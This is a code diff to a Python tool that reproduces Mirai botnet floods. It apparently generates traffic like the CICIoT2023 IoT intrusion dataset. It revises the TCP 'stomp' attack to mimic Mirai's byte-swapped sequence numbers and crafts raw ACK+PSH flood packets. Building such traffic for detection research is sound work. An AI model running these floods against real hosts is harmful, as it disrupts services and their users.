@@ -20,9 +20,9 @@ gateway's for a flood at an outside address: no route is needed or added).
   Query\\0" to UDP 27015 from a random source port per packet
   (attack_udp_vse).
 - `stomp`: connect() to the port, read the server's SYN-ACK off the wire,
-  then flood ACK+PSH segments with 768 random bytes into that connection,
-  the sequence number advancing by one per segment, as attack_tcp_stomp
-  does.
+  then flood ACK+PSH segments with 768 random bytes on that connection's
+  ports, with the sequence and acknowledgement numbers attack_tcp_stomp
+  writes (the SYN-ACK's, byte-swapped through htons: outside the window).
 - `connect`: CICIoT2023's "TCP flood": complete handshakes closed at once,
   no data, from several threads.
 
@@ -77,8 +77,11 @@ def udp(src: bytes, dst: bytes, sport: int, dport: int, payload: bytes) -> bytes
     return seg[:6] + struct.pack("!H", csum) + seg[8:]
 
 
-def tcp(src: bytes, dst: bytes, sport: int, dport: int, seq: int, ack: int, flags: int, payload: bytes) -> bytes:
-    seg = struct.pack("!HHIIBBHHH", sport, dport, seq & 0xFFFFFFFF, ack & 0xFFFFFFFF, 5 << 4, flags, 0xFFFF, 0, 0) + payload
+def tcp(src: bytes, dst: bytes, sport: int, dport: int, seq: bytes, ack: bytes, flags: int, window: int,
+        payload: bytes) -> bytes:
+    """A TCP segment with 12 zero option bytes (data offset 8, as Mirai's stomp header is laid out);
+    `seq` and `ack` are the four bytes written to the wire."""
+    seg = struct.pack("!HH4s4sBBHHH", sport, dport, seq, ack, 8 << 4, flags, window, 0, 0) + bytes(12) + payload
     csum = checksum(src + dst + struct.pack("!BBH", 0, 6, len(seg)) + seg)
     return seg[:16] + struct.pack("!H", csum) + seg[18:]
 
@@ -172,12 +175,23 @@ def cmd_stomp(a) -> None:
         sp, dp, tseq, tack = struct.unpack("!HHII", f[t:t + 12])
         flags = f[t + 13]
         if sp == a.port and dp == lport and flags & 0x12 == 0x12:
-            # Our next sequence number is the SYN-ACK's ack; theirs its seq + 1.
-            seq, ack = tack, tseq + 1
+            # Mirai keeps the SYN-ACK's sequence and acknowledgement fields
+            # as read (network byte order in a little-endian integer).
+            seq, ack = struct.unpack("<II", f[t + 4:t + 12])
     if seq is None:
         raise SystemExit("no SYN-ACK seen")
+    # attack_tcp_stomp then writes `tcph->seq = htons(seq++)` and
+    # `tcph->ack_seq = htons(ack_seq)`: htons keeps the low 16 bits and
+    # swaps them, and the 32-bit field is stored little-endian. The segments
+    # fall outside the connection's window; the receiver drops them.
+    def mangle(v: int) -> bytes:
+        v &= 0xFFFF
+        return struct.pack("<I", ((v & 0xFF) << 8) | (v >> 8))
+
+    window = random.Random(a.seed).randrange(65536)
     for i in paced(a.count, a.rate):
-        w.send(ipv4(w.src, dst, 6, tcp(w.src, dst, lport, a.port, seq + i, ack, 0x18, os.urandom(a.size)), i))
+        seg = tcp(w.src, dst, lport, a.port, mangle(seq + i), mangle(ack), 0x18, window, os.urandom(a.size))
+        w.send(ipv4(w.src, dst, 6, seg, random.randrange(65536)))
     print(f"{a.count} ACK+PSH segments into {lport} -> {a.dst}:{a.port}")
     s.close()
 
